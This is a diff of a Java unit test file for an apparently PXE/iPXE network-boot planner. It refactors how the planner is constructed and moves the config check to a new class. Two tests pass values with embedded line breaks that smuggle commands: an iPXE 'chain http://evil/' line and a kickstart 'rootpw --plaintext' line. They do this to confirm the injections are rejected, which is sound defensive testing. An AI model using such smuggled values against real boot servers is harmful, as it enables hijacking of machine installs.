@@ -13,6 +13,7 @@ import org.bootferry.config.ConfigSnapshot;
 import org.bootferry.journal.BootState;
 import org.bootferry.journal.LoaderFetches;
 import org.bootferry.loader.LoaderFiles;
+import org.bootferry.loader.LoaderPresence;
 import org.bootferry.machine.Firmware;
 import org.bootferry.machine.MacAddress;
 import org.bootferry.machine.Machine;
@@ -52,7 +53,7 @@ class BootPlannerTest {
 
     private BootPlanner planner() {
         ConfigSnapshot snapshot = ConfigLoader.load(config.dir()).requireValid();
-        return new BootPlanner(() -> snapshot);
+        return new BootPlanner(BootPlanner.Dependencies.of(() -> snapshot));
     }
 
     @Test
@@ -79,9 +80,8 @@ class BootPlannerTest {
         ConfigSnapshot snapshot = ConfigLoader.load(config.dir()).requireValid();
         java.util.function.Supplier<BootPlanner> serving = () -> {
             try {
-                return new BootPlanner(() -> snapshot, Optional.empty(), Optional.empty(),
-                        new io.micrometer.core.instrument.simple.SimpleMeterRegistry(), Optional.empty(),
-                        Optional.of(LoaderFiles.directory(tftproot)));
+                return new BootPlanner(BootPlanner.Dependencies.of(() -> snapshot).withLoaders((mac, loader) -> true,
+                        new LoaderPresence(LoaderFiles.directory(tftproot))::missing));
             } catch (java.io.IOException e) {
                 throw new java.io.UncheckedIOException(e);
             }
@@ -110,8 +110,8 @@ class BootPlannerTest {
         ConfigSnapshot snapshot = ConfigLoader.load(config.dir()).requireValid();
         java.util.concurrent.atomic.AtomicLong now = new java.util.concurrent.atomic.AtomicLong();
         LoaderFetches fetches = new LoaderFetches(a -> Optional.empty(), now::get);
-        BootPlanner planner = new BootPlanner(() -> snapshot, Optional.empty(), Optional.empty(),
-                new io.micrometer.core.instrument.simple.SimpleMeterRegistry(), Optional.of(fetches), Optional.empty());
+        BootPlanner planner = new BootPlanner(BootPlanner.Dependencies.of(() -> snapshot)
+                .withLoaders(fetches::fetchedRecently, loader -> Optional.empty()));
         Machine romIpxe = new Machine(NODE1, Firmware.BIOS, true, Optional.empty());
 
         assertThat(planner.plan(romIpxe).orElseThrow().bootFile())
@@ -134,13 +134,13 @@ class BootPlannerTest {
         Machine romIpxe = new Machine(NODE1, Firmware.EFI_X64, true, Optional.empty());
         LoaderFetches none = new LoaderFetches(a -> Optional.empty(), System::nanoTime);
         ConfigSnapshot firmware = ConfigLoader.load(config.dir()).requireValid();
-        assertThat(new BootPlanner(() -> firmware, Optional.empty(), Optional.empty(),
-                new io.micrometer.core.instrument.simple.SimpleMeterRegistry(), Optional.of(none), Optional.empty())
+        assertThat(new BootPlanner(BootPlanner.Dependencies.of(() -> firmware)
+                .withLoaders(none::fetchedRecently, loader -> Optional.empty()))
                 .plan(romIpxe).orElseThrow().bootFile()).contains("/boot.ipxe?");
 
         config.file("server.yaml", "advertise: 10.0.0.1", "chainload: {ipxe: server}");
         ConfigSnapshot server = ConfigLoader.load(config.dir()).requireValid();
-        assertThat(new BootPlanner(() -> server).plan(romIpxe).orElseThrow().bootFile())
+        assertThat(new BootPlanner(BootPlanner.Dependencies.of(() -> server)).plan(romIpxe).orElseThrow().bootFile())
                 .as("a planner nobody tells of fetches (explain) could never break the loop").contains("/boot.ipxe?");
     }
 
@@ -209,7 +209,7 @@ class BootPlannerTest {
     void checkFindsUnknownTemplateVariablesNamingTheTemplate() {
         config.file("templates/fedora.ks", "ok", "rootpw {{vars.password}}");
         ConfigSnapshot snapshot = ConfigLoader.load(config.dir());
-        assertThat(BootPlanner.check(snapshot)).extracting(ConfigError::toString).containsExactly(
+        assertThat(ConfigCheck.check(snapshot)).extracting(ConfigError::toString).containsExactly(
                 config.dir().resolve("templates/fedora.ks")
                         + ":2: unknown variable 'vars.password': 'vars' has no 'password' (known here: lang, timezone)");
     }
@@ -218,10 +218,10 @@ class BootPlannerTest {
     void checkFindsKernelArgsVariablesAndMissingKernels() {
         config.file("machines/52-54-00-12-34-57.yaml", "kernelBoot:", "  kernelArgs: x={{nope}}");
         ConfigSnapshot snapshot = ConfigLoader.load(config.dir());
-        assertThat(BootPlanner.check(snapshot)).extracting(ConfigError::message).containsExactly(
+        assertThat(ConfigCheck.check(snapshot)).extracting(ConfigError::message).containsExactly(
                 "no kernel: set kernelBoot.files or kernelBoot.container here or in its profile");
         config.file("machines/52-54-00-12-34-57.yaml", "profile: install", "kernelBoot:", "  kernelArgs: x={{nope}}");
-        assertThat(BootPlanner.check(ConfigLoader.load(config.dir()))).extracting(ConfigError::message)
+        assertThat(ConfigCheck.check(ConfigLoader.load(config.dir()))).extracting(ConfigError::message)
                 .singleElement().asString().startsWith("kernelArgs: unknown variable 'nope'");
     }
 
@@ -230,14 +230,14 @@ class BootPlannerTest {
         config.file("machines/52-54-00-12-34-57.yaml", "profile: install",
                 "vars: {evil: \"x\\nchain http://evil/\"}", "kernelBoot:", "  kernelArgs: a={{vars.evil}}");
         ConfigSnapshot snapshot = ConfigLoader.load(config.dir());
-        assertThatThrownBy(() -> new BootPlanner(() -> snapshot).plan(Machine.of(NODE2, Firmware.BIOS)))
+        assertThatThrownBy(() -> new BootPlanner(BootPlanner.Dependencies.of(() -> snapshot)).plan(Machine.of(NODE2, Firmware.BIOS)))
                 .isInstanceOf(BootPlanException.class).hasMessageContaining("line break");
     }
 
     @Test
     void unknownLoaderFirmwareInServerYamlIsReported() {
         config.file("server.yaml", "advertise: 10.0.0.1", "loaders: {efi-x86: ipxe.efi}");
-        assertThat(BootPlanner.check(ConfigLoader.load(config.dir(), Map.of()))).extracting(ConfigError::message)
+        assertThat(ConfigCheck.check(ConfigLoader.load(config.dir(), Map.of()))).extracting(ConfigError::message)
                 .singleElement().asString().startsWith("loaders: unknown firmware 'efi-x86'");
     }
 
@@ -267,7 +267,7 @@ class BootPlannerTest {
     void aValueWithALineBreakCannotAddLinesToAnInstallFile() {
         config.file("machines/52-54-00-12-34-56.yaml", "hostname: \"node-01\\nrootpw --plaintext x\"", "profile: install");
         ConfigSnapshot snapshot = ConfigLoader.load(config.dir());
-        assertThat(BootPlanner.check(snapshot)).extracting(ConfigError::message).singleElement().asString()
+        assertThat(ConfigCheck.check(snapshot)).extracting(ConfigError::message).singleElement().asString()
                 .startsWith("the value of 'hostname' contains a line break");
     }
 
@@ -276,7 +276,7 @@ class BootPlannerTest {
         config.file("machines/52-54-00-12-34-56.yaml", "hostname: node-01", "profile: install", "bootOnce: true");
         ConfigSnapshot snapshot = ConfigLoader.load(config.dir()).requireValid();
         BootState state = new BootState(tmp.resolve("state"));
-        BootPlanner planner = new BootPlanner(() -> snapshot, Optional.of(state));
+        BootPlanner planner = new BootPlanner(BootPlanner.Dependencies.of(() -> snapshot).withInstalls(state));
         Machine uefi = new Machine(NODE1, Firmware.EFI_X64, true, Optional.empty());
         Machine bios = new Machine(NODE1, Firmware.BIOS, true, Optional.empty());
         assertThat(IpxeScript.render(planner.plan(uefi).orElseThrow())).contains("kernel http://");
